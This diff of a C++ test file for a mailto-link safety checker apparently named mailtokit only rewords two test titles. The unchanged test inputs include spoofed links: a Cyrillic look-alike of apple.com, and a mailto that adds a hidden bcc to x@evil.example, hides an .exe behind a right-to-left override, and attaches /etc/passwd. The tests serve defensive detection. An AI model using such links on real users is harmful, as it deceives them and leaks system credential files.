@@ -88,7 +88,7 @@ const std::string issue_link =
 
 }  // namespace
 
-TEST_CASE("the issue's link: the look-alike first, named and marked; Cancel is the default", "[question]") {
+TEST_CASE("the issue's link: the look-alike first, named and marked, Cancel the default", "[question]") {
   const auto q = ask(issue_link);
   CHECK(q.title == "mailtokit: check this link before it opens");
   CHECK(q.headline == "admin@\xD0\xB0pple.com is not apple.com");
@@ -146,7 +146,7 @@ TEST_CASE("a hidden copy alone: named in the headline, and removing it is the de
   CHECK(many.safe == choice::open_without_bcc);
 }
 
-TEST_CASE("three findings fit on one screen; the worst comes first", "[question]") {
+TEST_CASE("three findings fit on one screen, the worst first", "[question]") {
   const auto q =
       ask("mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&attach=%2Fetc%"
           "2Fpasswd"
